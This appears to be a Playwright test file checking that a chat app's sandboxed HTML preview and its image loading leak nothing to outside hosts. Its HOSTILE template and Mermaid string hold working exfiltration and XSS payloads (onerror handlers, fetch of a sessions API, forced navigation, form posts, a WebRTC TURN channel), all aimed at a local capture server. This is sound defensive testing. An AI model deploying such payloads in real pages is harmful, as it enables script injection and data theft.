"""What a model wrote as HTML, and pictures of other hosts: shown when a person asks, and reaching nothing."""

from __future__ import annotations

import base64
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager

from playwright.sync_api import expect

from tests.page.conftest import PagedSystem, Visitor
from tests.page.test_chat import answered, ask

Visit = Callable[..., Visitor]

DOT = base64.b64decode("R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=")
# Tries everything that could leave the frame, by itself or by a press.
HOSTILE = """<style>@import url({out}/css); h1 {{ color: rgb(1, 2, 3); background: url({out}/background) }}</style>
<link rel="stylesheet" href="{out}/link"><link rel="prefetch" href="{out}/prefetch"><link rel="preconnect" href="{out}">
<meta http-equiv="refresh" content="0; url={out}/refresh"><base href="{out}">
<h1 id="mark" onclick="top.pwned()">Drawn</h1>
<a id="leave" href="{out}/a" target="_top" ping="{out}/ping">Leave</a>
<svg width="9" height="9"><image href="{out}/svg"/></svg><img src="{out}/img" onerror="top.pwned()">
<iframe src="{out}/frame"></iframe><iframe srcdoc="<img src={out}/srcdoc>"></iframe>
<video src="{out}/video" autoplay></video><object data="{out}/object"></object><embed src="{out}/embed">
<form action="{out}/form"><input name="q" value="s"><button id="send">Send</button></form>
<script>
document.title = "ran"; document.getElementById("mark").textContent = "Scripted";
try {{ top.location = "{out}/top"; }} catch {{}}
location = "{out}/navigated";
fetch("{api}/sessions"); fetch("{out}/fetch", {{ mode: "no-cors" }});
const server = {{ urls: "turn:{out}?transport=tcp".replace("http://", ""), username: "u", credential: "c" }};
const call = new RTCPeerConnection({{ iceServers: [server] }});
call.createDataChannel("d"); call.createOffer().then((offer) => call.setLocalDescription(offer));
</script>"""


@contextmanager
def other_host() -> Iterator[tuple[str, list[str]]]:
    """A host that writes down whatever reaches it."""
    reached: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    reached.append("a connection")

        threading.Thread(target=serve, daemon=True).start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", reached
        server.shutdown(socket.SHUT_RDWR)


def test_a_preview_shows_what_the_model_wrote_and_reaches_nothing(visit: Visit, paged: PagedSystem) -> None:
    with other_host() as (out, reached):
        diagram = "```mermaid\ngraph TD\nA[<img src=x onerror=top.pwned()>] --> B\n```"
        answer = f"```html\n{HOSTILE.format(out=out, api=paged.url)}\n```\n\n{diagram}"
        paged.script({"user": "^draw a hostile page", "replies": [{"content": answer}]})
        visitor = visit()
        visitor.expected = lambda trouble: "Security Policy" in trouble or "sandboxed" in trouble  # refused
        page = visitor.open()
        ask(page, "draw a hostile page")
        answered(page)
        expect(page.locator("iframe")).to_have_count(0)  # not by itself
        page.get_by_role("button", name="Preview").nth(1).click()
        drawn = page.get_by_role("region", name="Diagram of the code above")
        expect(drawn.locator("text").first).to_have_text("<img src=x")
        expect(drawn.locator(".line")).to_have_count(1)
        page.get_by_role("button", name="Close the preview").click()
        page.get_by_role("button", name="Preview").first.click()
        frame = page.frame_locator("iframe").frame_locator("iframe")
        expect(frame.locator("#mark")).to_have_css("color", "rgb(1, 2, 3)")
        for one in ("#leave", "#send", "#mark"):
            frame.locator(one).click()
        expect(frame.locator("#mark")).to_have_text("Drawn")
        expect(page.get_by_text("Its scripts do not run here")).to_be_visible()
        assert page.url.startswith(paged.url)
        page.get_by_role("button", name="Close the preview").click()
        expect(page.locator("iframe")).to_have_count(0)
        assert reached == []


def test_a_picture_of_another_host_is_loaded_by_a_press_that_names_it(visit: Visit, paged: PagedSystem) -> None:
    address = "https://pictures.example/dot.gif?who=me"
    paged.script(
        {"user": "^show a dot", "replies": [{"content": f"![A dot]({address}) ![Inside](http://127.0.0.1/x)"}]}
    )
    visitor = visit()
    visitor.expected = lambda trouble: "403" in trouble
    page = visitor.open()
    ask(page, "show a dot")
    answered(page)
    expect(page.locator(".picture").first).to_contain_text("its address carries 6 more characters to that host")
    page.get_by_role("button", name="Load it from 127.0.0.1").click()
    expect(page.locator(".picture").nth(1)).to_contain_text("not on the public internet")
    asked = []
    page.route(
        "**/pictures",
        lambda route: (asked.append(route.request.post_data_json), route.fulfill(body=DOT, content_type="image/gif")),
    )
    page.get_by_role("button", name="Load it from pictures.example").click()
    expect(page.get_by_role("img", name="A dot")).to_be_visible()
    assert asked == [{"url": address}]
